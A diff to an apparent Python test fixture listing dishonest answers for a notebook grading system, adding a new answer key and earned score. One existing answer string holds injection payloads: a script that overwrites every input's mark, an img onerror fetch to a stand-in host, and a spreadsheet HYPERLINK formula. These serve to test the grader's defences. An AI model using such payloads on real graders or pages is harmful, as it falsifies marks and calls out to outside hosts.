@@ -1,6 +1,6 @@
 """What a notebook says of itself, what it says to whoever marks it, and what it reads and leaves behind."""
 
-from grading.dishonest_answers import DECODE, DICE, NO_OFFSET, RIGHT_SAID, VERDICT, Dishonest
+from grading.dishonest_answers import DECODE, DICE, NO_OFFSET, RIGHT_SAID, SCORES, VERDICT, Dishonest
 
 PAPER = (
     Dishonest(
@@ -66,7 +66,9 @@ PAPER = (
             "1.6": "answer_1_6 = '''<script>for (const mark of document.querySelectorAll('input')) mark.value = 2;"
             "</script><img src=x onerror=\"fetch('http://192.0.2.1/marks')\"> more reviews bring more credits and more "
             'different words, but not in proportion; =HYPERLINK("http://192.0.2.1","2")\'\'\'',
+            "1.9": SCORES,
         },
+        earned={"1.9": 3},
         note="shows an answer as HTML, or in a cell of a table, as it is",
     ),
     Dishonest(
